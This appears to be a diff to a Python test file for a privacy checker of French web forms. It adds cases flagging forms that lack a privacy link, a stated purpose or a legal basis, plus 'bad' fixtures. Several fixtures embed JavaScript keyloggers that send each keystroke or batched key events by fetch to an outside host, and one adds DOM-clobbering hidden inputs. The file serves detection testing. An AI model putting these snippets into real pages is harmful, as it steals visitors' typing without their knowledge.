@@ -11,6 +11,12 @@ FIELD = '<form action="/recherche"><label>Recherche <input name="q" type="search
 POSTS = 'fetch("{to}/k",{{method:"POST",mode:"no-cors",body:{body}}})'
 
 
+#: A search that answers while one types.
+LIVE = (
+    'document.querySelector("[name=q]").addEventListener("input",e=>fetch("%s/api?q="+e.target.value,{mode:"no-cors"}))'
+)
+
+
 def listens(body: str, how: str = "") -> str:
     code = how or POSTS.format(to=TO, body=body)
     return FIELD + script(
@@ -18,6 +24,10 @@ def listens(body: str, how: str = "") -> str:
     )
 
 
+POLICY_LINK = '<a href="/confidentialite">Politique de confidentialité</a>'
+CLOBBERS = "".join(
+    f'<input type="hidden" name="{name}">' for name in ("method", "elements", "action", "innerText", "links")
+)
 PLAIN = """<form method="post" action="/contact"><label>Adresse e-mail <input type="email" name="email"></label>
 <fieldset><legend>Ce pour quoi nous pouvons vous contacter</legend>
 <label><input type="checkbox" name="nouvelles"> J’accepte de recevoir par e-mail les nouvelles.</label></fieldset>
@@ -52,6 +62,26 @@ SENT: tuple[Case, ...] = (
     bad("keystrokes-hashed", "keystrokes-sent", OTHER, home=listens("", HASH)),
     bad("keystrokes-base64-socket", "keystrokes-sent", OTHER, home=listens("", SOCKET)),
     bad("keystrokes-to-itself", "keystrokes-sent", home=listens("", POSTS.format(to="", body="v"))),
+    bad(
+        "keystrokes-one-by-one",
+        "keystrokes-sent",
+        OTHER,
+        home=FIELD
+        + script(
+            f'addEventListener("keydown",e=>fetch("{TO}/k",{{method:"POST",mode:"no-cors",body:JSON.stringify({{t:Date.now(),k:e.key}})}}))'
+        ),
+    ),
+    bad(
+        "keystrokes-as-events",
+        "keystrokes-sent",
+        OTHER,
+        home=FIELD
+        + script(
+            f'const s=[];addEventListener("keyup",e=>{{s.push({{type:3,code:e.code,x:12}});if(s.length==20)fetch("{TO}/e",{{method:"POST",mode:"no-cors",body:JSON.stringify(s)}})}})'
+        ),
+    ),
+    bad("search-elsewhere", "keystrokes-sent", OTHER, home=FIELD + script(LIVE % TO)),
+    good("live-search", pages={"/api": Reply("[]", "application/json")}, home=FIELD + script(LIVE % "")),
     good(
         "typing-stays",
         home=FIELD
@@ -113,13 +143,35 @@ FORMS: tuple[Case, ...] = (
     bad(
         "form-no-policy",
         "form-without-policy",
-        **page_with(FORM.replace('<a href="/confidentialite">Politique de confidentialité</a>', "")),
+        **page_with(FORM.replace(POLICY_LINK, "")),
     ),
     bad(
         "form-no-purpose",
         "form-without-purpose",
-        **page_with(FORM.replace("Vos données servent pour vous répondre.", "")),
+        **page_with(FORM.replace(", vos données servent pour vous répondre.", "")),
     ),
+    bad(
+        "form-policy-in-the-foot",
+        "form-without-policy",
+        **page_with(
+            f"<main>{FORM.replace(POLICY_LINK, '')}</main><footer><a href='/confidentialite'>Confidentialité</a></footer>"
+        ),
+    ),
+    good(
+        "form-policy-beside",
+        **page_with(f"{FORM.replace(POLICY_LINK, '')}<p>{POLICY_LINK}</p><footer><a href='/'>Accueil</a></footer>"),
+    ),
+    bad(
+        "form-names-its-own-parts",
+        "form-without-policy",
+        "form-by-get",
+        **page_with(
+            FORM.replace(POLICY_LINK, "")
+            .replace('method="post"', 'method="get"')
+            .replace("<button>", CLOBBERS + "<button>")
+        ),
+    ),
+    bad("form-no-basis", "form-without-basis", **page_with(FORM.replace("Avec votre accord, vos", "Vos"))),
     bad(
         "form-ticked",
         "form-ticked-box",
